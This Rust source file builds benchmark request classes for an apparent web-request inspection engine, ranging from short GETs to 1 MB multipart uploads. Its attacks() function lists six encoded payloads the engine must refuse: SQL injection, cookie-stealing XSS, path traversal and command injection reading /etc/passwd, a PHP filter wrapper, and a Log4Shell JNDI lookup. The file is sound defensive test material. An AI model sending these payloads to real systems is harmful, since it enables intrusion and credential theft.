//! Requests in the classes that the engine's figures are published for.

/// One request as a client sends it.
#[derive(Clone, Debug)]
pub struct Request {
    /// Method.
    pub method: &'static str,
    /// Target.
    pub target: String,
    /// Header fields.
    pub headers: Vec<(String, String)>,
    /// Body.
    pub body: Vec<u8>,
}

/// Requests that cost alike.
#[derive(Clone, Debug)]
pub struct Class {
    /// Name in the table.
    pub label: &'static str,
    /// Whether every request of the class is an attack that must be refused; else none may be.
    pub attack: bool,
    /// The requests; they differ, so that nothing is measured twice in a row.
    pub requests: Vec<Request>,
}

/// All classes, from cheap to dear.
pub fn classes() -> Vec<Class> {
    let benign = |label, requests: Vec<Request>| Class { label, attack: false, requests };
    vec![
        benign("short GET", (0..20).map(|n| get(&format!("/products?page={n}"))).collect()),
        benign("GET, 10 arguments", (0..20).map(ten_arguments).collect()),
        benign("form POST, 0.5 KB", (0..20).map(form).collect()),
        benign("many headers and cookies", (0..20).map(many_headers).collect()),
        benign("JSON 1 KB", (0..10).map(|n| json(n, 11, 1)).collect()),
        benign("JSON 10 KB", (0..5).map(|n| json(n, 110, 1)).collect()),
        benign("JSON 100 KB", (0..2).map(|n| json(n, 190, 9)).collect()),
        benign("multipart 1 MB", (0..2).map(multipart).collect()),
        Class { label: "attacks", attack: true, requests: attacks() },
    ]
}

fn headers() -> Vec<(String, String)> {
    [
        ("Host", "shop.example.org"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()))
    .to_vec()
}

fn get(target: &str) -> Request {
    Request { method: "GET", target: target.to_owned(), headers: headers(), body: Vec::new() }
}

fn post(target: &str, content_type: &str, body: Vec<u8>) -> Request {
    let mut request = Request { method: "POST", body, ..get(target) };
    request.headers.push(("Content-Type".to_owned(), content_type.to_owned()));
    request.headers.push(("Content-Length".to_owned(), request.body.len().to_string()));
    request
}

fn ten_arguments(n: usize) -> Request {
    get(&format!(
        "/search?q=red+shoes+{n}&size=42&colour=blue&brand=acme&sort=price&order=asc&page={n}&limit=20&lang=en&currency=EUR"
    ))
}

fn form(n: usize) -> Request {
    let body = format!(
        "name=Ann+Miller+{n}&email=ann.miller%40example.org&street=Station+Road+{n}&city=Springfield&postcode=1234{n}\
         &phone=%2B44+20+7946+09{n}&message=Hello%2C+could+you+please+send+me+the+price+list+for+this+year+and+tell+me+\
         whether+the+blue+model+is+still+available%3F+I+would+need+three+of+them+before+the+end+of+the+month.\
         +Thank+you+very+much+in+advance%2C+kind+regards%2C+Ann&newsletter=yes&terms=accepted&channel=search&campaign=\
         autumn-{n}"
    );
    post("/contact", "application/x-www-form-urlencoded", body.into_bytes())
}

fn many_headers(n: usize) -> Request {
    let mut request = get(&format!("/account?tab={n}"));
    let cookies: Vec<String> = (0..20).map(|c| format!("pref_{c}=v{n}_{c}a8f3e2b1c4d5")).collect();
    request.headers.push(("Cookie".to_owned(), cookies.join("; ")));
    for h in 0..15 {
        request.headers.push((format!("X-Client-Hint-{h}"), format!("value {h} of request {n}")));
    }
    request.headers.push(("Referer".to_owned(), format!("https://shop.example.org/products?page={n}")));
    request
}

/// A list of `items` objects of five leaves each; `sentences` make them longer.
/// Stays below the 1,000 arguments that the engine's settings accept.
fn json(n: usize, items: usize, sentences: usize) -> Request {
    const SENTENCE: &str = "Light and sturdy, for every day and any weather. ";
    let items: Vec<String> = (0..items)
        .map(|i| {
            format!(
                "{{\"id\":{i},\"name\":\"Product {i} of list {n}. {}\",\"price\":{}.99,\"tags\":[\"new\",\"sale\"]}}",
                SENTENCE.repeat(sentences),
                i * 3 + n
            )
        })
        .collect();
    post("/api/items", "application/json", format!("{{\"items\":[{}]}}", items.join(",")).into_bytes())
}

fn multipart(n: usize) -> Request {
    let boundary = "----form-boundary-7d3f";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday {n}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"beach-{n}.jpg\"\r\n\
         Content-Type: image/jpeg\r\n\r\n"
    )
    .into_bytes();
    // Bytes without structure, as a compressed picture has; the same in every run.
    let mut state = 0x9E37_79B9_7F4A_7C15_u64.wrapping_add(n as u64);
    body.extend((0..1 << 20).map(|_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    }));
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    post("/photos", &format!("multipart/form-data; boundary={boundary}"), body)
}

fn attacks() -> Vec<Request> {
    [
        "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
        "/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
        "/?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D",
    ]
    .map(get)
    .to_vec()
}
